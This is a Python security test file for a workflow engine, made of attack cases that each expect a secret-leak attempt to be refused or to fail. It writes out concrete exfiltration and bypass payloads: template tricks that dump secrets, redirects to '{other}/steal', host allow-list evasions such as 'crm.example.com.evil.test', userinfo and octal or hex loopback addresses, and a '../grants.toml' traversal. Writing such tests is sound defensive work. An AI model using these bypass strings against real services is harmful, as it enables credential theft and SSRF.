"""Attacks that want a secret: read back, derived, combined, or sent to somebody who must not have it."""

from __future__ import annotations

from typing import Any

from tests.attacks.review import (
    CRM,
    ECHO,
    SERVER_GRANT,
    SHELL_ON,
    SQL_ON,
    Answer,
    Completes,
    Ending,
    Ends,
    Fails,
    Refused,
    Row,
    Run,
    document,
    node,
    once,
    sends,
)

SECRET = "{{ secrets.CRM }}"
NOT_HERE = Refused("secret_not_allowed")
NOT_ALONE = Refused("secret_not_alone")
AS_IT_STANDS = Completes(lambda outputs: "secrets.CRM" in str(outputs))
"""Keys are no templates."""
SCRIPTED = {"provider": "scripted", "answers": ["1"]}
BOTH = f'{SERVER_GRANT}\n[secrets.ODD]\norigins = ["{{url}}"]\nworkflows = ["attack"]'


def place(name: str, *nodes: dict[str, Any], ending: Ending = NOT_HERE, grants: str = SERVER_GRANT, **more: Any) -> Run:
    return Run(f"secret in {name}", (document(*nodes, **more),), ending, grants=grants)


PLACES: tuple[Row, ...] = (
    place("a value", node("value", SECRET)),
    place("a key of a value", node("value", {SECRET: 1}), ending=AS_IT_STANDS),
    place("a list to map", node("value", 1, map={"over": SECRET})),
    place("the outputs", node("value", 1), outputs=SECRET),
    place("a condition", node("value", 1, when="secrets.CRM == 'x'"), ending=Refused("condition_unknown_name")),
    place(
        "a comparison",
        node("value", 1, when={"type": "cross_node_comparison", "expression": "secrets.CRM == 'x'"}),
        ending=Refused("condition_unknown_name"),
    ),
    place("a transform", node("transform", {"value": SECRET})),
    place("the inputs of a child", node("workflow", {"workflow": "attack", "inputs": {"a": SECRET}})),
    place("the labels of a child", node("workflow", {"workflow": "attack", "labels": {"a": SECRET}})),
    place("the name of a child", node("workflow", {"workflow": SECRET})),
    place("a title", node("human", {"title": SECRET})),
    place("the name of a signal", node("signal", {"name": SECRET})),
    place("a message of a failure", node("fail", {"message": SECRET})),
    place("a prompt", node("llm", {**SCRIPTED, "prompt": SECRET})),
    place("a scripted answer", node("llm", {"provider": "scripted", "prompt": "a", "answers": [SECRET]})),
    place("a text to classify", node("classify", {**SCRIPTED, "text": SECRET, "labels": ["a", "b"]})),
    place("the data of a webhook", node("webhook", {"url": "{url}", "type": "a", "data": SECRET, "secret": SECRET})),
    place("the text of a mail", node("email", {"from": "a@b.c", "to": "a@b.c", "text": SECRET})),
    place("the subject of a mail", node("email", {"from": "a@b.c", "to": "a@b.c", "subject": SECRET, "text": "a"})),
    place("a header of a mail", node("email", {"from": "a@b.c", "to": "a@b.c", "text": "a", "headers": {"x": SECRET}})),
    place("a query of words", node("search", {"query": SECRET, "documents": ["a"]})),
    place("rows of a table", node("pipeline", {"rows": [{"a": SECRET}], "pipeline": []})),
    place(
        "a program",
        node("pipeline", {"rows": [], "pipeline": [{"step": "jq_transform", "program": SECRET}]}),
        ending=Ends(("secret_not_allowed",)),
    ),
    place("arguments of a command", node("shell", {"argv": ["echo", SECRET]}), grants=f"{SHELL_ON}\n{SERVER_GRANT}"),
    place("a statement", node("sql", {"statement": SECRET}), grants=f"{SQL_ON}\n{SERVER_GRANT}"),
    place("a compensator", node("value", 1, compensator={"type": "value", "config": SECRET})),
    place("paging", node("http", {"url": "{url}", "pagination": {"next": SECRET}})),
    place("a header of idempotency", node("http", {"url": "{url}", "idempotency_header": SECRET})),
    place("a wait", node("sleep", {"seconds": SECRET})),
)

EXPRESSIONS: tuple[Row, ...] = tuple(
    sends(SERVER_GRANT, NOT_ALONE, f"secret as {value}"[:60], headers={"x": value}, inputs={"a": "CRM"})
    for value in (
        "{{ secrets }}",
        "{{ secrets | json }}",
        "{{ secrets.items() | list }}",
        "{{ secrets.get('CRM') }}",
        "{{ secrets[inputs.a] }}",
        "{% set x = secrets.CRM %}{{ x }}",
        "{% set x = secrets %}{{ x.CRM | b64 }}",
        "{% if secrets.CRM is match('s') %}1{% endif %}",
        "{% for c in secrets.CRM %}{{ c }}-{% endfor %}",
        "{% filter upper %}{{ secrets.CRM }}{% endfilter %}",
        "{% macro m(x) %}{{ x }}{% endmacro %}{{ m(secrets.CRM) }}",
        "{% with x = secrets.CRM %}{{ x | urlencode }}{% endwith %}",
        "{{ secrets.CRM ~ '' }}",
        "{{ '%s' | format(secrets.CRM) }}",
        "{{ secrets.CRM if inputs.a else '' }}",
        "{{ secrets.CRM == inputs.a }}",
        "{{ [secrets.CRM] }}",
        "{{ dict(a=secrets.CRM).a }}",
        "{{ secrets.CRM.split('-')[1] }}",
        "{{ secrets.CRM | length }}",
        "{{ secrets.CRM }}{{ secrets.ODD }}",
        "{{ secrets | attr('CRM') }}",
    )
)

REDIRECTS = {
    "/echo": Answer(status=302, headers={"Location": "{other}/steal"}),
    "/keep": Answer(status=307, headers={"Location": "{other}/steal"}),
    "/steal": Answer(echo=True),
    "/pages": Answer(b'{"items": [1], "next": "{other}/steal"}'),
    "/link": Answer(b"[1]", {"Link": '<{other}/steal>; rel="next"'}),
    "/user": Answer(status=302, headers={"Location": "http://a:b@127.0.0.1/steal"}),
}
HEADER = {"x-token": SECRET}


def leads(name: str, ending: Ending, path: str = "/echo", **config: Any) -> Run:
    config = {"url": f"{{url}}{path}", **config}
    return Run(f"secret: {name}", (document(once("http", config)),), ending, grants=BOTH, answers=REDIRECTS)


ANYHOW = Ends(
    (
        "origin_not_allowed",
        "egress_refused",
        "url_invalid",
        "response_invalid",
        "http_status",
        "request_invalid",
        "config_invalid",
    )
)

ORIGINS: tuple[Row, ...] = (
    leads("a redirect with a header", ANYHOW, headers=HEADER),
    leads("a redirect with a bearer", ANYHOW, auth={"bearer": SECRET}),
    *(
        leads(f"a redirect with a secret as {name}", ANYHOW, headers={name: SECRET})
        for name in ("User-Agent", "Accept", "Accept-Language")
    ),
    leads("a redirect with an agent as auth", ANYHOW, auth={"header": {"name": "User-Agent", "value": SECRET}}),
    leads("a redirect with a type", ANYHOW, "/keep", headers={"Content-Type": f"text/{SECRET}"}),
    leads(
        "a page elsewhere with an agent",
        ANYHOW,
        "/pages",
        headers={"User-Agent": SECRET},
        pagination={"next": "$.next", "items": "$.items"},
    ),
    leads("a redirect with a password", ANYHOW, auth={"basic": {"username": "a", "password": SECRET}}),
    leads("a redirect with a query", ANYHOW, query={"a": SECRET}),
    leads("a redirect with a body", ANYHOW, "/keep", body={"json": {"a": SECRET}}),
    leads("a redirect with a form", ANYHOW, "/keep", body={"form": {"a": SECRET}}),
    leads("a redirect with credentials", ANYHOW, "/user", headers=HEADER),
    leads("a page elsewhere", ANYHOW, "/pages", headers=HEADER, pagination={"next": "$.next", "items": "$.items"}),
    leads("a linked page elsewhere", ANYHOW, "/link", auth={"bearer": SECRET}, pagination={"next": "link"}),
    leads(
        "a cursor elsewhere", ANYHOW, "/pages", query={"k": SECRET}, pagination={"next": "$.next", "parameter": "url"}
    ),
    *(
        Run(
            f"secret: sent to {url}",
            (document(once("http", {"url": url, "headers": HEADER, "timeout_seconds": 2})),),
            ANYHOW,
            grants='[secrets.CRM]\norigins = ["{url}", "https://*.crm.example.com"]\nworkflows = ["attack"]',
            answers=ECHO,
            visits=(),
        )
        for url in (
            "{other}/steal",
            "https://crm.example.com.evil.test/",
            "https://evilcrm.example.com/",
            "https://crm.example.com/",
            "https://a.crm.example.com@evil.test/",
            "https://evil.test\\.crm.example.com/",
            "https://evil.test#.crm.example.com/",
            "https://a.crm.example.com:8443/",
            "http://a.crm.example.com/",
            "http://127.1/steal",
            "http://0x7f000001/steal",
            "http://127.0.0.1./steal",
            "http://[::ffff:127.0.0.1]/steal",
            "http://localhost/steal",
            "http://\u24db\u24de\u24d2alhost/",
        )
    ),
    *(
        Run(
            f"secret: {type_} elsewhere, {key}",
            (document(once(type_, config)),),
            Ends(("origin_not_allowed", "signing_key_invalid", "url_invalid")),
            grants=SERVER_GRANT,
            answers=ECHO,
            visits=(),
        )
        for type_, key, config in (
            ("llm", "the key", {"model": "m", "prompt": "a", "base_url": "{other}", "api_key": SECRET}),
            ("llm", "a header", {"model": "m", "prompt": "a", "base_url": "{other}", "headers": {"x": SECRET}}),
            (
                "classify",
                "the key",
                {"model": "m", "text": "a", "labels": ["a", "b"], "base_url": "{other}", "api_key": SECRET},
            ),
            ("webhook", "a header", {"url": "{other}/steal", "type": "a", "secret": SECRET, "headers": {"x": SECRET}}),
            ("webhook", "the signature", {"url": "{other}/steal", "type": "a", "secret": SECRET}),
            (
                "pipeline",
                "a step",
                {"pipeline": [{"step": "http_request", "url": "{other}/steal", "headers": {"x": SECRET}}]},
            ),
            (
                "email",
                "the password",
                {
                    "from": "a@b.c",
                    "to": "a@b.c",
                    "text": "a",
                    "server": {"host": "127.0.0.1", "port": 2525, "username": "a", "password": SECRET},
                },
            ),
            ("llm", "in the address", {"model": "m", "prompt": "a", "base_url": "{other}/{{ secrets.CRM }}"}),
            ("http", "in the host", {"url": "http://{{ secrets.CRM }}.127.0.0.1.nip.io/"}),
            ("http", "as the port", {"url": "http://127.0.0.1:{{ secrets.CRM }}/"}),
            ("http", "as all of the address", {"url": SECRET}),
        )
    ),
    Run(
        "secret: a database that is not an origin",
        (
            document(
                once("sql", {"database": "crm", "statement": "SELECT upper(:a) AS x", "parameters": {"a": SECRET}})
            ),
        ),
        Fails("origin_not_allowed"),
        grants=SERVER_GRANT,
        database=CRM,
    ),
    Run(
        "secret: a command",
        (document(once("shell", {"argv": ["sh", "-c", 'echo "$A" | rev'], "env": {"A": SECRET}})),),
        Fails("origin_not_allowed"),
        grants=f"{SHELL_ON}\n{SERVER_GRANT}",
    ),
    Run(
        "secret: the input of a command",
        (document(once("shell", {"argv": ["rev"], "stdin": SECRET})),),
        Fails("origin_not_allowed", '"shell"'),
        grants=f"{SHELL_ON}\n{SERVER_GRANT}",
    ),
    Run(
        "secret: a compensator that calls elsewhere",
        (
            document(
                node(
                    "value",
                    1,
                    compensator={
                        "type": "http",
                        "config": {"url": "{other}/steal", "headers": HEADER},
                        "retry": {"max_attempts": 1},
                    },
                ),
                node("fail", {"message": "no"}, "y", dependencies=["x"]),
                on_failure={"compensate": "automatic"},
            ),
        ),
        Fails("failed"),
        grants=SERVER_GRANT,
        answers=ECHO,
        visits=(),
    ),
    Run(
        "secret: a child of another name",
        (
            document(once("http", {"url": "{url}/echo", "headers": HEADER}), name="thief"),
            document(once("workflow", {"workflow": "thief"})),
        ),
        Fails("child_failed", "secret_not_granted"),
        grants=SERVER_GRANT,
        answers=ECHO,
        visits=(),
    ),
    Run(
        "secret: a name that looks like a granted one",
        (document(once("http", {"url": "{url}/echo", "headers": HEADER}), name="attack-2"),),
        Fails("secret_not_granted"),
        grants=SERVER_GRANT,
        answers=ECHO,
        visits=(),
    ),
    *(
        sends(SERVER_GRANT, ending, f"secret called {name}", headers={"x": f"{{{{ secrets.{name} }}}}"})
        for name, ending in (
            ("GRANTS", Fails("secret_not_granted")),
            ("PATH", Fails("secret_not_granted")),
            ("crm", Fails("secret_not_granted")),
            ("__class__", Refused("template_syntax")),
        )
    ),
    Run(
        "secret: a file beside the folder of secrets",
        (document(once("http", {"url": "{url}/echo", "headers": {"x": "{{ secrets['../grants.toml'] }}"}})),),
        NOT_ALONE,
        grants='secrets_folder = "/tmp"\n[secrets.X]\norigins = ["{url}"]\nworkflows = ["*"]',
    ),
)

BAD = {
    "/bad": Answer(echo=True, status=400),
    "/json": Answer(b"{", {"Content-Type": "application/json"}),
    **{f"/pad/{size}": Answer(b"x" * size + b"s3cr3t-canary-4711 and more", status=400) for size in range(0, 700, 20)},
    **{
        f"/text/{size}": Answer(b"x" * size + b"s3cr3t-canary-4711 and more", {"Content-Type": "application/json"})
        for size in range(0, 700, 20)
    },
    "/trace": Answer(b"s3cr3t-canary-4711", {"X-Seen": "s3cr3t-canary-4711", "Location": "/s3cr3t-canary-4711"}),
    "*": Answer(echo=True),
}


def errs(name: str, ending: Ending, type_: str = "http", over: Any = None, **config: Any) -> Run:
    more = {"map": {"over": over, "tolerate": 1000}} if over else {}
    return Run(f"secret: {name}", (document(once(type_, config, **more)),), ending, grants=BOTH, answers=BAD)


SAID: tuple[Row, ...] = (
    errs("an error that quotes the answer", Fails("http_status"), url="{url}/bad", headers={"x": SECRET}),
    errs(
        "an error that cuts the answer",
        Completes(),
        over=list(range(0, 700, 20)),
        url="{url}/pad/{{ item }}",
        headers={"x": SECRET},
    ),
    errs(
        "JSON that is none",
        Completes(),
        over=list(range(0, 700, 20)),
        url="{url}/text/{{ item }}",
        headers={"x": SECRET},
    ),
    errs("headers of the answer", Completes(), url="{url}/trace", parse="text", headers={"x": SECRET}),
    errs("a path of the address", Completes(), url="{url}/a/{{ secrets.CRM }}/b"),
    errs("an odd one in the path", Ends(("url_invalid",)), url="{url}/a/{{ secrets.ODD }}"),
    errs("an odd one in the query", Completes(), url="{url}/q", query={"a": "{{ secrets.ODD }}"}),
    errs("an odd one in a form", Completes(), url="{url}/q", body={"form": {"a": "{{ secrets.ODD }}"}}),
    errs("an odd one as JSON", Completes(), url="{url}/q", body={"json": {"a": "{{ secrets.ODD }}"}}),
    errs("an odd one in a header", Ends(("request_invalid",)), url="{url}/q", headers={"x": "{{ secrets.ODD }}"}),
    errs("an odd one as a user", Ends(("url_invalid",)), url="http://{{ secrets.ODD }}:x@127.0.0.1/"),
    errs(
        "an odd one as a password",
        Completes(),
        url="{url}/q",
        auth={"basic": {"username": "a", "password": "{{ secrets.ODD }}"}},
    ),
    errs("a name of a header", Fails("request_invalid"), url="{url}/q", headers={SECRET: "x"}),
    errs("a name of a parameter", AS_IT_STANDS, url="{url}/q", query={SECRET: "x"}),
    errs("a name in JSON", Completes(), url="{url}/q", body={"json": {SECRET: 1}}),
    errs("a key that is none", Fails("signing_key_invalid"), "webhook", url="{url}/q", type="a", secret=SECRET),
    errs(
        "a model that quotes the key",
        Ends(("auth_failed", "provider_refused", "response_invalid")),
        "llm",
        model="m",
        prompt="a",
        base_url="{url}/bad",
        api_key=SECRET,
    ),
    errs("a closed port", Ends(("egress_refused", "origin_not_allowed")), url="http://127.0.0.1:1/{{ secrets.CRM }}"),
    errs("a wrong method", Refused("config_invalid"), url="{url}/q", method="X", headers={"x": SECRET}),
)

SECRET_ROWS: tuple[Row, ...] = (*PLACES, *EXPRESSIONS, *ORIGINS, *SAID)
